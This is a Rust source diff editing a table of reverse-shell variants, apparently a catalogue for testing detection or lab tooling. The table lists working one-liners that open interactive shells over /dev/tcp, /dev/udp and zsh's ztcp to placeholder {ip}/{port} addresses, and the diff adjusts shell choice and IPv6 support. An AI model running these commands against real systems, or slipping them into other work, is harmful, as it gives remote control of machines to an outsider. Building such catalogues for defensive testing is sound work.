@@ -31,7 +31,8 @@ pub(super) const ALL: &[Variant] = &[
         &["bash", "-c", "exec 5<>/dev/tcp/{ip}/{port}; while read -r line <&5; do out=$(eval \"$line\" 2>&1); echo \"$out\" >&5; done"],
     )
     .per_command(),
-    Variant::tcp("bash /dev/udp", Class::Udp, &["bash"], &["bash", "-c", "bash -i >& /dev/udp/{ip}/{port} 0>&1"])
+    // bash itself reads a byte at a time, which loses the rest of each datagram; dash does not.
+    Variant::tcp("bash /dev/udp", Class::Udp, &["bash"], &["bash", "-c", "/bin/sh -i >& /dev/udp/{ip}/{port} 0>&1"])
         .over(Transport::Udp),
     Variant::tcp(
         "bash re-execed under another name",
@@ -45,7 +46,7 @@ pub(super) const ALL: &[Variant] = &[
         &["bash", "setsid", "nohup"],
         &["bash", "-c", "(cd /tmp; setsid nohup bash -c 'sh -i <>/dev/tcp/{ip}/{port} >&0 2>&0' >/dev/null 2>&1 &)"],
     ),
-    // Debian's ksh knows no IPv6 address in /dev/tcp.
+    // Neither Debian's ksh nor zsh's ztcp connects over IPv6.
     Variant::tcp(
         "ksh /dev/tcp",
         Class::Direct,
@@ -58,5 +59,6 @@ pub(super) const ALL: &[Variant] = &[
         Class::Direct,
         &["zsh"],
         &["zsh", "-c", "zmodload zsh/net/tcp && ztcp {ip} {port} && zsh <&$REPLY >&$REPLY 2>&$REPLY"],
-    ),
+    )
+    .only_v4(),
 ];
